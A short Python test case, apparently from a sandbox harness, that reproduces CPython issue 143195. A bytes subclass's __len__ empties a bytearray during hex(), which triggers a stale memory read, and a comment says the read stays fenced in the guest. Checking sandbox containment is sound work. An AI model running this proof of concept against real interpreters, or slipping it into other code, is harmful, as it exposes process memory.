# attack: bytearray.hex(separator) whose separator empties the bytearray when it is asked for its length
#   (CPython issue 143195)
# fence: the stale read stays in the guest's memory
# step: deploy attack [] => *
class Separator(bytes):
    def __len__(self):
        victim.clear()
        keep.append(bytearray(b"Q" * 300))
        return 1


keep = []
victim = bytearray(b"A" * 300)
finish(victim.hex(Separator(b":")))
